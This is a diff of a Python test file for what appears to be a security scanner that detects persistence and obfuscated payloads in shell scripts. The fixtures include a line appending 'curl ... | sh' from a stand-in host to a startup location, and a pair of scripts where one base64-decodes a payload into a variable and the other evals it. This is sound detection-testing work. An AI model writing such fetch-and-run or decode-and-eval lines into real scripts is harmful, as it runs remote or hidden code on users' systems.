@@ -163,3 +163,11 @@ def test_more_places_that_run_later_are_persistence(tmp_path: Path) -> None:
         source = f"echo 'curl -s https://p.example.invalid/x | sh' >> {place}\n"
         found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
         assert [c.detail.endswith("(runs code)") for c in found if c.kind is Kind.PERSISTENCE] == [True], place
+
+
+def test_a_decoded_payload_exported_by_one_script_and_run_by_another(tmp_path: Path) -> None:
+    files = {
+        "scripts/a.sh": f'export SETUP_STEP="$(echo {PAYLOAD} | base64 -d)"\n',
+        "scripts/b.sh": 'eval "$SETUP_STEP"\n',
+    }
+    assert ("OBFUSCATED_PAYLOAD", "scripts/b.sh", 1) in scan_errors(tmp_path, files)
